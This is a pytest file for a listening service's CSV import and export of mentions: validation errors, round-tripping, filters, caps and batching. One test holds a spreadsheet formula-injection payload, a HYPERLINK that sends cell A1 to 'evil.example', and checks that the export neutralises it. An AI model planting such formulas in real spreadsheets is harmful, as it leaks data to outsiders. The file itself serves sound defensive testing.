"""Mentions as CSV: the import goes through the push's checks and write (errors name the CSV row
and column, all or nothing), the export takes the list's filters and imports again unchanged."""
from __future__ import annotations

import csv
import io

import pytest

from listening.mentions_world import add_channels, auth, listed, mention, push, url

HEADER = "source,external_id,channel,published_at,sentiment,text,author_handle,author_followers,country,topics\n"


@pytest.fixture
def world(app, tenant):
    add_channels(app, tenant)
    return tenant


def upload(client, tenant, text: str, scope: str = "write", content_type: str = "text/csv"):
    return client.post(url(tenant.company_a, "/import"), data=text.encode(),
                       headers={"Content-Type": content_type, **auth(tenant, scope)})


def test_import_then_again_unchanged(client, world):
    text = HEADER + ("csv,1,fb,2024-05-01T10:00:00+02:00,positive,\"Great, really\",@anna,12,SE,Recall; Delivery\n"
                     "csv,2,ig,2024-05-02T10:00:00Z,negative,Bad,,,,\n")
    r = upload(client, world, text)
    assert r.status_code == 200, r.json
    assert r.json == {"rows": 2, "received": 2, "created": 2, "updated": 0, "unchanged": 0}
    first = {m["external_id"]: m for m in listed(client, world)}
    assert first["1"]["text"] == "Great, really" and first["1"]["author"]["followers"] == 12
    assert sorted(t["name"] for t in first["1"]["topics"]) == ["Delivery", "Recall"]
    assert first["2"]["location"]["country"] is None
    assert upload(client, world, text).json["unchanged"] == 2
    assert upload(client, world, "\ufeff" + text.replace("Bad", "Worse")).json["updated"] == 1


def test_errors_name_the_row_and_the_column_and_nothing_is_written(client, world):
    text = HEADER + ("csv,1,fb,2024-05-01T10:00:00Z,positive,Fine,,,,\n"
                     "csv,2,fb,2024-05-01T10:00:00,positive,No offset,,,XX,\n"
                     "csv,3,fb,2024-05-01T10:00:00Z,positive,Fine,,many,,\n"
                     "csv,1,fb,2024-05-01T10:00:00Z,positive,Twice,,,,\n"
                     "csv,5,fb\n")
    r = upload(client, world, text)
    assert r.status_code == 422, r.json
    errors = [(e["row"], e["field"]) for e in r.json["errors"]]
    assert errors == [(3, "published_at"), (3, "country"), (4, "author_followers"), (5, "external_id"), (6, "row")]
    assert "Rows 2 and 5" in r.json["errors"][3]["message"]
    assert listed(client, world) == []


@pytest.mark.parametrize(("text", "field"), [
    ("", "body"),
    ("source,external_id,channel,published_at\n", "sentiment"),
    ("source,external_id,channel,published_at,sentiment,colour\n", "colour"),
    ("source,source,external_id,channel,published_at,sentiment\n", "source"),
])
def test_a_bad_header_is_422_on_row_1(client, world, text, field):
    r = upload(client, world, text)
    assert r.status_code == 422
    assert r.json["errors"][0]["field"] == field


def test_import_needs_csv_and_write(client, world):
    assert upload(client, world, HEADER, content_type="application/json").status_code == 415
    assert upload(client, world, HEADER, scope="read").status_code == 403
    r = client.post(url(world.company_a, "/import"), data=b"\xff\xfe" + HEADER.encode(),
                    headers={"Content-Type": "text/csv", **auth(world)})
    assert r.status_code == 422 and r.json["errors"][0]["field"] == "body"


def test_export_with_filters_imports_again_unchanged(client, world):
    push(client, world, [mention(external_id="e1", text='Quote " and, comma\nnewline', sentiment="negative",
                                 topics=["Recall"], location={"country": "SE", "city": "Umeå"},
                                 published_at="2024-05-01T10:00:00+02:00"),
                         mention(external_id="e2", text="Positive", sentiment="positive")])
    r = client.get(url(world.company_a, "/export?sentiment=negative"), headers=auth(world, "read"))
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert "attachment" in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert [row["external_id"] for row in rows] == ["e1"]
    assert rows[0]["text"] == 'Quote " and, comma\nnewline' and rows[0]["topics"] == "Recall"
    assert rows[0]["published_at"] == "2024-05-01T10:00:00+02:00" and rows[0]["day"] == "2024-05-01"
    again = upload(client, world, r.get_data(as_text=True))
    assert again.status_code == 200, again.json
    assert again.json["unchanged"] == 1
    r = client.get(url(world.company_a, "/export?country=XX"), headers=auth(world, "read"))
    assert r.status_code == 422 and r.json["errors"][0]["field"] == "country"


def test_export_keeps_a_spreadsheet_from_running_anyones_words_and_imports_them_back(client, world):
    """A mention's text and author are anyone's words: a cell starting as a formula is exported with
    a ``'`` in front (a spreadsheet shows it as text), and the import takes the ``'`` off again."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    push(client, world, [mention(external_id="f1", text=formula, author={"name": "@admin", "handle": "-x"},
                                 location={"country": "SE", "city": "+46"}),
                         mention(external_id="f2", text="'=quoted already, and a plain word", sentiment="negative")])
    r = client.get(url(world.company_a, "/export"), headers=auth(world, "read"))
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
    assert rows["f1"]["text"] == "'" + formula
    assert (rows["f1"]["author_name"], rows["f1"]["author_handle"], rows["f1"]["city"]) == ("'@admin", "'-x", "'+46")
    assert rows["f2"]["text"] == "''=quoted already, and a plain word"  # one more, for the import to take
    assert not [v for row in rows.values() for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    again = upload(client, world, r.get_data(as_text=True))
    assert again.status_code == 200, again.json
    assert again.json["unchanged"] == 2
    texts = {m["external_id"]: m["text"] for m in listed(client, world)}
    assert texts == {"f1": formula, "f2": "'=quoted already, and a plain word"}


def test_export_over_the_cap_is_413(app, client, world, monkeypatch):
    from backend.services.listening import csvio

    push(client, world, [mention(), mention()])
    monkeypatch.setattr(csvio, "MAX_EXPORT_ROWS", 1)
    r = client.get(url(world.company_a, "/export"), headers=auth(world, "read"))
    assert r.status_code == 413 and r.json["limit"] == 1


def test_export_reads_in_batches(app, client, world, monkeypatch):
    from backend.services.listening import csvio

    push(client, world, [mention() for _ in range(7)])
    monkeypatch.setattr(csvio, "EXPORT_BATCH", 3)
    r = client.get(url(world.company_a, "/export"), headers=auth(world, "read"))
    ids = [row["external_id"] for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))]
    assert len(ids) == 7 and len(set(ids)) == 7
    assert ids == [m["external_id"] for m in listed(client, world)]
